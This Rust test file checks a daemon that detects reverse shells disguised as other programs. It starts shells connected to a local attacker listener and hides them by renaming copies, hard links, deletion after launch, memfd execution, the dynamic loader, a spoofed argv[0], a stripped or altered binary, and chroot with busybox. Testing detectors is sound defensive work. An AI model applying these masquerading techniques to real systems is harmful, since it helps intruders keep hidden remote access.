//! Shells under another name: each is found, is judged as the shell that it is, and the evidence says how it was
//! recognised. And programs that are none, and files that are traps for who reads them.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use std::fs;
use std::net::TcpStream;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::attacker::{Listener, Session};
use common::daemon::Daemon;
use common::expected::{Expected, prove_session};
use common::finding::Finding;
use common::hungfs::HungFs;
use common::mode::EITHER;
use common::programs::program;
use common::victim::Victim;
use common::{wait_for, which};

/// Copies a program. By another process: a descriptor open for writing here could be inherited by what another test
/// starts at this moment, and the copy would be busy.
fn copy(from: impl AsRef<Path>, to: &Path) {
    assert!(Command::new("cp").arg(from.as_ref()).arg(to).status().unwrap().success());
}

/// Appends to a program, for the same reason by another process.
fn append(to: &Path, text: &str) {
    let line = format!("printf %s '{text}' >>\"$0\"");
    assert!(Command::new("sh").arg("-c").arg(line).arg(to).status().unwrap().success());
}

/// Starts a command with a connection to a new attacker on fds 0, 1 and 2, or on 0 alone.
fn start(mut command: Command, both_ways: bool) -> (Session, Victim) {
    let attacker = Listener::tcp();
    let stream = TcpStream::connect(("127.0.0.1", attacker.port())).unwrap();
    let stdio = || Stdio::from(OwnedFd::from(stream.try_clone().unwrap()));
    command.stdin(stdio()).stdout(Stdio::null()).stderr(Stdio::null());
    if both_ways {
        command.stdout(stdio()).stderr(stdio());
    }
    (attacker.accept(), Victim::spawn(command))
}

/// Runs a command on a socket, uses it as a shell, and holds the finding against row 1 and the evidence.
fn is_a_shell(command: Command, exe: &Path, args: &[&str], evidence: &[&str]) -> Finding {
    let (session, victim) = start(command, true);
    proves_a_shell(session, victim, exe, args, evidence)
}

fn proves_a_shell(session: Session, victim: Victim, exe: &Path, args: &[&str], evidence: &[&str]) -> Finding {
    let exe = exe.to_str().unwrap();
    // Not always held: a program in memory, and one that the loader is told to run.
    let seen = if exe == "/memfd:x" || exe.contains("/ld-linux") { EITHER } else { "live" };
    let expected = Expected { exe, args, seen, other_root: true, ..Expected::default() };
    let found = prove_session(Daemon::shared(), session, victim, &expected);
    for part in evidence {
        assert!(found.says(part), "{part:?} is not in {}", found.property("Evidence"));
    }
    found
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn no_options(program: &Path) -> Command {
    Command::new(program)
}

#[test]
fn copies() {
    require!("bash", "dash");
    Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    for (shell, name) in [("bash", "apache"), ("dash", "cat"), ("bash", "kthread d")] {
        let path = directory.path().join(name);
        copy(which(shell).unwrap(), &path);
        let mut command = Command::new(&path);
        command.arg("-i");
        let said = format!("the program is {shell} under another name: it has the same content as /");
        // An interactive shell's prompt and job control messages do not stand in the way of what is proved.
        let found = is_a_shell(command, &path, &[text(&path), "-i"], &[&said]);
        assert_eq!(found.text("Process_Binary_Fullpath"), text(&path));
    }
}

/// With the socket on fd 0 alone an unknown program is nothing; a shell that reads its commands there is row 2, by its
/// own options.
#[test]
fn a_copy_that_reads_commands_and_answers_nobody() {
    require!("bash");
    let daemon = Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("apache");
    copy(which("bash").unwrap(), &path);
    let (session, victim) = start(no_options(&path), false);
    let port = session.victim().port();
    let found = daemon.wait_for("the copied bash", |record| record.own_port() == Some(port));
    assert_eq!((found.row(), found.severity()), (2, "MEDIUM"), "{}", found.brief());
    assert!(found.says("bash under another name"), "{}", found.property("Evidence"));
    session.exit();
    drop(victim);

    let mut command = no_options(&path);
    command.args(["-c", "read line"]);
    let (session, victim) = start(command, false);
    let port = session.victim().port();
    daemon.judged();
    assert!(!daemon.records().iter().any(|record| record.own_port() == Some(port)));
    drop((session, victim));
}

#[test]
fn a_copied_busybox() {
    require!("busybox");
    Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("update");
    copy(which("busybox").unwrap(), &path);
    let mut command = Command::new(&path);
    command.arg0("sh");
    let said = ["busybox under another name: it has the same content as", "sh is an applet of busybox"];
    is_a_shell(command, &path, &["sh"], &said);
    // Its name begins like busybox's: then the applet is an argument.
    let path = directory.path().join("busyboxes");
    copy(which("busybox").unwrap(), &path);
    let mut command = Command::new(&path);
    command.arg("sh");
    is_a_shell(command, &path, &[text(&path), "sh"], &said);
}

#[test]
fn a_hard_link() {
    require!("dash");
    Daemon::shared();
    let dash = fs::canonicalize(which("dash").unwrap()).unwrap();
    let directory = tempfile::tempdir().unwrap();
    let device = |path: &Path| fs::metadata(path).unwrap().dev();
    if device(&dash) != device(directory.path()) {
        return common::impossible("programs and temporary files are on two filesystems");
    }
    let path = directory.path().join("nginx");
    fs::hard_link(&dash, &path).unwrap();
    is_a_shell(
        no_options(&path),
        &path,
        &[text(&path)],
        &["dash under another name: it is the same file as /"],
    );
}

#[test]
fn renamed_then_deleted() {
    require!("bash");
    Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    let [first, second] = ["first", "second"].map(|name| directory.path().join(name));
    copy(which("bash").unwrap(), &first);
    let (session, victim) = start(no_options(&first), true);
    fs::rename(&first, &second).unwrap();
    fs::remove_file(&second).unwrap();
    let port = session.victim().port();
    let found = Daemon::shared()
        .wait_for("the deleted bash", |record| record.own_port() == Some(port) && record.row() == 1);
    assert_eq!(found.severity(), "HIGH", "{}", found.brief());
    assert!(found.says("bash under another name"), "{}", found.property("Evidence"));
    session.exit();
    drop(victim);

    let path = directory.path().join("gone");
    copy(which("bash").unwrap(), &path);
    // It has no name any more when it is executed.
    let flags = nix::fcntl::OFlag::O_RDONLY;
    let open = nix::fcntl::open(&path, flags, nix::sys::stat::Mode::empty()).unwrap();
    fs::remove_file(&path).unwrap();
    let mut command = Command::new(format!("/proc/self/fd/{}", open.as_raw_fd()));
    command.arg0("worker");
    is_a_shell(
        command,
        &path,
        &["worker"],
        &["bash under another name", "the program's file has been deleted"],
    );
}

#[test]
fn anonymous_memory() {
    require!("dash");
    Daemon::shared();
    let file = nix::sys::memfd::memfd_create(c"x", nix::sys::memfd::MFdFlags::empty()).unwrap();
    let content = fs::read(which("dash").unwrap()).unwrap();
    assert_eq!(nix::unistd::write(&file, &content).unwrap(), content.len());
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let said = ["dash under another name", "the program runs from anonymous memory (memfd)"];
    is_a_shell(no_options(Path::new(&path)), Path::new("/memfd:x"), &[&path], &said);
}

/// The dynamic loader of this machine.
fn loader() -> Option<PathBuf> {
    let known = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"];
    known.iter().find_map(|path| fs::canonicalize(path).ok())
}

#[test]
fn through_the_loader() {
    require!("bash");
    Daemon::shared();
    let Some(loader) = loader() else { return common::impossible("the loader's path is not known here") };
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("x");
    copy(which("bash").unwrap(), &path);
    let said = ["bash under another name: it has the same content as", "started through ld-linux"];
    for operand in [text(&path), "./x"] {
        let mut command = Command::new(&loader);
        let args = ["--library-path", "/nowhere", "--argv0", "nginx", operand, "--norc"];
        command.args(args).current_dir(directory.path());
        let args = [&[text(&loader)], &args[..]].concat();
        is_a_shell(command, &loader, &args, &said);
    }
}

/// What the loader was given is gone when the daemon comes by: the process still has it mapped.
#[test]
fn through_the_loader_and_deleted() {
    require!("bash");
    let Some(loader) = loader() else { return common::impossible("the loader's path is not known here") };
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("x");
    copy(which("bash").unwrap(), &path);
    let mut command = Command::new(&loader);
    command.arg(&path);
    let (mut session, victim) = start(command, true);
    session.shell_pid();
    fs::remove_file(&path).unwrap();
    let port = session.victim().port();
    let daemon = Daemon::start("");
    let found = daemon
        .wait_for("the shell in the loader", |record| record.own_port() == Some(port) && record.row() == 1);
    assert!(found.says("bash under another name"), "{}", found.property("Evidence"));
    assert_eq!(found.text("Observation"), "swept");
    session.exit();
    drop(victim);
    daemon.stop();
}

#[test]
fn an_argv0_that_lies() {
    require!("bash");
    Daemon::shared();
    let bash = fs::canonicalize(which("bash").unwrap()).unwrap();
    let mut command = Command::new(&bash);
    command.arg0("[kworker/0:1]");
    is_a_shell(command, &bash, &["[kworker/0:1]"], &["argv[0] says [kworker/0:1], the program is bash"]);
}

#[test]
fn the_interpreter_of_a_script() {
    require!("bash");
    Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    let [shell, script] = ["x", "service"].map(|name| directory.path().join(name));
    copy(which("bash").unwrap(), &shell);
    let lines = format!("#!{}\nwhile read -r line; do eval \"$line\"; done\n", shell.display());
    let plain = directory.path().join("plain");
    fs::write(&plain, lines).unwrap();
    fs::set_permissions(&plain, fs::Permissions::from_mode(0o755)).unwrap();
    copy(&plain, &script);
    let mut command = Command::new("chmod");
    assert!(command.arg("755").arg(&script).status().unwrap().success());
    is_a_shell(no_options(&script), &shell, &[text(&shell), text(&script)], &["bash under another name"]);
}

/// The digest is another, and what is characteristic is still in it.
#[test]
fn a_changed_copy() {
    require!("bash", "dash");
    Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    for shell in ["bash", "dash"] {
        let path = directory.path().join(format!("not-{shell}"));
        copy(which(shell).unwrap(), &path);
        if which("strip").is_some() {
            assert!(Command::new("strip").arg(&path).status().unwrap().success());
        }
        append(&path, "UPX!");
        let said = format!("{shell} under another name: its file has in it what only {shell} has");
        is_a_shell(no_options(&path), &path, &[text(&path)], &[&said]);
    }
}

/// A root with a static busybox in it that is called `bin/busyboxes`, and nothing else that is a shell.
fn root_without_shells() -> tempfile::TempDir {
    let root = tempfile::tempdir().unwrap();
    for name in ["bin", "etc"] {
        fs::create_dir(root.path().join(name)).unwrap();
    }
    copy(which("busybox").unwrap(), &root.path().join("bin/busyboxes"));
    copy(program("attack"), &root.path().join("bin/attack"));
    root
}

/// Runs the shell in a root and returns its finding.
fn in_root(root: &Path) -> Finding {
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start(
        "chroot",
        &[text(root), "/bin/attack", "dup", "127.0.0.1", &port, "012", "/bin/busyboxes", "sh"],
    );
    let mut session = attacker.accept();
    session.shell_pid();
    let found = Daemon::shared().wait_for("the shell in its root", |record| {
        record.peer_port() == Some(attacker.port()) && record.row() == 1
    });
    assert_eq!(found.severity(), "HIGH", "{}", found.brief());
    assert!(found.says("sh is an applet of busybox"), "{}", found.property("Evidence"));
    session.exit();
    drop(victim);
    found
}

const ONLY_BY_ITS_FILE: &str = "busybox under another name: its file has in it what only busybox has";

#[test]
fn an_image_that_has_no_such_shell() {
    require!("gcc", "busybox", "chroot");
    Daemon::shared();
    let root = root_without_shells();
    let found = in_root(root.path());
    assert!(found.says(ONLY_BY_ITS_FILE), "{}", found.property("Evidence"));
}

/// What is named in the root's own `etc/shells` counts, under whatever path.
#[test]
fn a_shell_that_its_root_lists() {
    require!("gcc", "busybox", "chroot");
    Daemon::shared();
    let root = root_without_shells();
    copy(which("busybox").unwrap(), &root.path().join("etc/own shell"));
    fs::write(root.path().join("etc/shells"), "# shells\n/bin/none\n/etc/own shell\n").unwrap();
    let found = in_root(root.path());
    assert!(found.says("it has the same content as /etc/own shell"), "{}", found.property("Evidence"));
}

/// Links that lead out of the root find nothing there, and a FIFO in the place of a shell or of the list holds nobody
/// up.
#[test]
fn a_root_full_of_traps() {
    require!("gcc", "busybox", "chroot");
    Daemon::shared();
    let busybox = fs::canonicalize(which("busybox").unwrap()).unwrap();
    let root = root_without_shells();
    let at = |name: &str| root.path().join(name);
    let out = format!("../../../../../../../../../../../..{}", busybox.display());
    symlink(out, at("bin/bash")).unwrap();
    symlink(format!("/proc/1/root{}", busybox.display()), at("bin/zsh")).unwrap();
    symlink("ksh", at("bin/ksh")).unwrap();
    symlink("/dev/zero", at("bin/mksh")).unwrap();
    fs::create_dir(at("bin/fish")).unwrap();
    nix::unistd::mkfifo(&at("bin/dash"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    fs::write(at("etc/shells"), "/bin/bash\n/bin/dash\n").unwrap();
    let found = in_root(root.path());
    assert!(found.says(ONLY_BY_ITS_FILE), "{}", found.property("Evidence"));

    fs::remove_file(at("etc/shells")).unwrap();
    nix::unistd::mkfifo(&at("etc/shells"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    copy(&busybox, &at("bin/other"));
    // Another file than before, so that it is not remembered.
    copy(&busybox, &at("bin/new"));
    fs::rename(at("bin/new"), at("bin/busyboxes")).unwrap();
    let found = in_root(root.path());
    assert!(found.says(ONLY_BY_ITS_FILE), "{}", found.property("Evidence"));
}

/// The finding of a program that is no shell.
fn is_no_shell(command: Command) -> Finding {
    let (session, victim) = start(command, true);
    let port = session.victim().port();
    let found = Daemon::shared().wait_for("the program", |record| record.own_port() == Some(port));
    assert_eq!((found.row(), found.severity()), (7, "LOW"), "{}", found.brief());
    assert!(!found.says("under another name: "), "{}", found.brief());
    drop((session, victim));
    found
}

#[test]
fn what_is_no_shell_stays_what_it_is() {
    require!("cat");
    Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("unknown");
    copy(which("cat").unwrap(), &path);
    is_no_shell(no_options(&path));
}

/// A file of 2 GiB, nearly all of it a hole: a bounded part of it is read.
#[test]
fn a_program_of_two_gibibytes() {
    require!("cat", "truncate");
    let daemon = Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("huge");
    copy(which("cat").unwrap(), &path);
    assert!(Command::new("truncate").args(["-s", "2G"]).arg(&path).status().unwrap().success());
    is_no_shell(no_options(&path));
    daemon.judged();
}

/// The record of a program on a filesystem that hangs is not held up: it goes out without the answer, says so, and the
/// loss is counted. Other shells are recognised meanwhile, or at the latest when the hung thread has been left behind.
#[test]
fn a_hung_filesystem() {
    require!("gcc", "busybox", "bash");
    let daemon = Daemon::start_as("tetherd-stuck");
    let Some(filesystem) = HungFs::mount("tetherd-stuck") else {
        return common::impossible("FUSE cannot be mounted");
    };
    let mut command = no_options(&filesystem.shell());
    command.arg0("sh");
    let (mut session, victim) = start(command, true);
    let port = session.victim().port();
    let found = daemon.wait_for("the shell on it", |record| record.own_port() == Some(port));
    assert_eq!(found.row(), 7, "{}", found.brief());
    // Had the record waited for as long as it takes to call the file hung, it would say that.
    assert!(found.says("was not known in time"), "{}", found.property("Evidence"));
    assert!(daemon.lost("shell_unsettled") >= 1);
    session.shell_pid();
    wait_for("the daemon asks the filesystem", || filesystem.was_asked().then_some(()));

    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("apache");
    copy(which("bash").unwrap(), &path);
    let (other, other_victim) = start(no_options(&path), true);
    let other_port = other.victim().port();
    let found = daemon.wait_for("a copy of bash elsewhere", |record| {
        record.own_port() == Some(other_port) && record.row() == 1
    });
    assert!(found.says("bash under another name"), "{}", found.property("Evidence"));
    other.exit();
    session.exit();
    drop((victim, other_victim));
    drop(filesystem);
    daemon.stop();
}
